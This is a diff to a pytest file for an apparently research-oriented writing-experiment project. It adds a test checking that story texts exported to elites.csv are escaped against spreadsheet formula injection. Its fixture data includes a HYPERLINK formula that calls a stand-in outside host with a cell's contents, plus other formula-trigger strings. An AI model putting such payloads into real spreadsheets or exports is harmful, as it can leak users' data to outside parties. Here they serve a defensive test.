@@ -13,11 +13,20 @@ import pytest
 
 from domains.opinions import OPINIONS
 from domains.poetry.poetry import GENRES, TONES
-from domains.stories import MODEL
-from experiments import benchmark_language, discover_axes, qdaif_table, qdaif_writing, tables, writing_setup
+from domains.stories import MODEL, STORIES
+from experiments import (
+    benchmark_language,
+    discover_axes,
+    qdaif_table,
+    qdaif_writing,
+    tables,
+    writing_report,
+    writing_setup,
+)
 from qdfeedback.history import History
 from qdfeedback.models.ledger import Ledger, SpendCapError
 from qdfeedback.run_settings import read_settings, write_settings
+from qdfeedback.types import Elites
 from tests.conftest import killed_on_its_way
 from tests.models.faulty import Faulty, asked, serving
 
@@ -441,3 +450,15 @@ def test_the_benchmark_compares_like_with_like(tmp_path: Path, capsys) -> None:
     assert figures["parameters"] < 5e6
     assert "times faster" in capsys.readouterr().out
     assert MODEL.exists()
+
+
+def test_texts_in_the_table_of_elites_are_no_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    bins = writing_setup.bins(STORIES)
+    texts = np.array(['=HYPERLINK("http://x.example/?"&A1)', "+1-1", "@SUM(1)", "A plain one."])
+    measures = np.zeros((4, len(bins.dims))) + np.arange(4)[:, None]
+    found = Elites(np.arange(4), texts, np.array([-0.25, 1, 1, 1]), measures)
+    writing_report.write_texts(tmp_path, STORIES, bins, found)
+    with (tmp_path / "elites.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [row["text"] for row in rows] == [f"'{text}" for text in texts[:3]] + ["A plain one."]
+    assert rows[0]["quality"] == "-0.25"
